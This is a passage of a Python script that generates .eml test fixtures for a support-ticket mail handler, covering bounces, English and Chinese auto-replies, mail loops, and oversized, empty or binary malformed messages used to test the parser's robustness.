Arrival-Date: Mon, 3 Jun 2024 13:59:58 +0800

Final-Recipient: rfc822; nobody@example.invalid
Action: failed
Status: 5.1.2
Diagnostic-Code: X-Postfix; Host or domain name not found

--DSN.1717394400
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers

From: support@zt.example
To: nobody@example.invalid
Subject: [SH-000077] We received your request

--DSN.1717394400--
"""


@corpus("bounce_plain_mailer_daemon")
def bounce_plain_mailer_daemon() -> bytes:
    return b"""Return-Path: <>
From: MAILER-DAEMON@mx.example.net
To: support@zt.example
Subject: failure notice
Date: 3 Jun 2024 06:10:00 -0000
Message-ID: <qmail-bounce-1@mx.example.net>

Hi. This is the qmail-send program at mx.example.net.
I'm afraid I wasn't able to deliver your message to the following addresses.

<gone@example.net>:
Sorry, no mailbox here by that name. (#5.1.1)
"""


@corpus("ooo_exchange_english")
def ooo_exchange_english() -> bytes:
    return crlf(
        (
            HEAD.format(sender="tom.baker@contoso.com")
            + """From: Tom Baker <tom.baker@contoso.com>
To: Zhongtai Support <support@zt.example>
Subject: Automatic reply: [SH-000123] Replacement part shipped
Thread-Topic: [SH-000123] Replacement part shipped
Date: Mon, 3 Jun 2024 06:20:00 +0000
Message-ID: <ooo-1@contoso.com>
In-Reply-To: <t.1-123-xyz.3@zt.example>
Auto-Submitted: auto-replied
X-MS-Exchange-Inbox-Rules-Loop: tom.baker@contoso.com
X-Auto-Response-Suppress: All
Content-Type: text/plain; charset="us-ascii"
MIME-Version: 1.0

I am out of the office until June 10 with limited access to email.
"""
        ).encode()
    )


@corpus("ooo_chinese_x_autoreply")
def ooo_chinese_x_autoreply() -> bytes:
    text = "您好，我正在休假，6月10日返回，期间邮件可能无法及时回复。"
    return (
        HEAD.format(sender="10001@qq.com")
        + f"""From: "{ew("张伟", "gb18030")}" <10001@qq.com>
To: support@zt.example
Subject: {ew("自动回复: [SH-000042] 设备无法开机", "gb18030")}
Date: Mon, 3 Jun 2024 14:30:00 +0800
Message-ID: <ooo-qq@qq.com>
X-Autoreply: yes
Content-Type: text/plain; charset="gb18030"
Content-Transfer-Encoding: base64

{b64(text.encode("gb18030")).decode()}"""
    ).encode()


@corpus("ooo_chinese_subject_only")
def ooo_chinese_subject_only() -> bytes:
    text = "您好，邮件已收到，我将尽快处理。此为自动回复。"
    return (
        HEAD.format(sender="liu@example.cn")
        + f"""From: liu@example.cn
To: support@zt.example
Subject: {ew("自动回复：您的工单已更新", "utf-8")}
Date: Mon, 3 Jun 2024 14:40:00 +0800
Message-ID: <ooo-subj@example.cn>
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

{b64(text.encode()).decode()}"""
    ).encode()


@corpus("precedence_bulk_newsletter")
def precedence_bulk_newsletter() -> bytes:
    return (
        HEAD.format(sender="bounce-123@news.example.com")
        + """From: Example News <news@example.com>
To: support@zt.example
Subject: June product news
Date: Mon, 3 Jun 2024 14:50:00 +0800
Message-ID: <news-2406@example.com>
Precedence: bulk
List-Unsubscribe: <mailto:unsubscribe@example.com>
Content-Type: text/plain; charset=utf-8

New products this month.
"""
    ).encode()


@corpus("loop_header_ours")
def loop_header_ours() -> bytes:
    return (
        HEAD.format(sender="support@zt.example")
        + """From: Zhongtai Support <support@zt.example>
To: forwarder@example.com
Subject: [SH-000123] We received your request
Date: Mon, 3 Jun 2024 15:00:00 +0800
Message-ID: <t.1-123-abc.9@zt.example>
X-Zhongtai-Loop: zt.example; ticket=123
Content-Type: text/plain; charset=utf-8

We received your request.
"""
    ).encode()


@corpus("received_loop_120_hops")
def received_loop_120_hops() -> bytes:
    hops = "".join(
        f"Received: from relay{i}.example.net (relay{i}.example.net [198.51.100.{i % 250}])\n"
        f"\tby relay{i + 1}.example.net; Mon, 3 Jun 2024 15:{i % 60:02d}:00 +0800\n"
        for i in range(120)
    )
    return (
        hops
        + """From: looper@example.net
To: support@zt.example
Subject: ping
Date: Mon, 3 Jun 2024 15:10:00 +0800
Message-ID: <loop-hops@example.net>

ping
"""
    ).encode()


# --- Hostile and broken files ---------------------------------------------------------------


@corpus("huge_received_5000")
def huge_received_5000() -> bytes:
    hops = "".join(
        f"Received: from relay{i}.example.net by relay{i + 1}.example.net; "
        f"Mon, 3 Jun 2024 15:00:00 +0800\n"
        for i in range(5000)
    )
    return (hops + "From: a@example.net\nSubject: huge\n\nbody\n").encode()


@corpus("huge_header_1mb")
def huge_header_1mb() -> bytes:
    folded = "".join(f" x{i:07d}\n" for i in range(110_000))
    return ("From: a@example.net\nSubject: huge\nX-Junk:" + folded + "\nbody\n").encode()


@corpus("binary_garbage")
def binary_garbage() -> bytes:
    rng = random.Random(20240603)
    return bytes(rng.getrandbits(8) for _ in range(4096))


@corpus("empty")
def empty() -> bytes:
    return b""


@corpus("no_sender")
def no_sender() -> bytes:
    return (
        b"To: support@zt.example\nSubject: Who am I\nDate: Mon, 3 Jun 2024 15:20:00 +0800\n\n"
        b"A mail without From, Sender or Reply-To.\n"
    )


@corpus("subject_only_no_body")
def subject_only_no_body() -> bytes:
    return (
        HEAD.format(sender="short@example.cn")
        + f"""From: short@example.cn
To: support@zt.example
Subject: {ew("打印机坏了")}
Date: Mon, 3 Jun 2024 15:30:00 +0800
Message-ID: <subject-only@example.cn>
Content-Type: text/plain; charset=utf-8

"""
    ).encode()


@corpus("nothing_at_all")
def nothing_at_all() -> bytes:
    return b"From: nobody@example.com\nTo: support@zt.example\n\n   \n"


def main() -> None:
    for old in HERE.glob("*.eml"):
        old.unlink()
    for name, builder in BUILDERS.items():
        (HERE / f"{name}.eml").write_bytes(builder())
    print(f"{len(BUILDERS)} mails written to {HERE}")


if __name__ == "__main__":
    main()
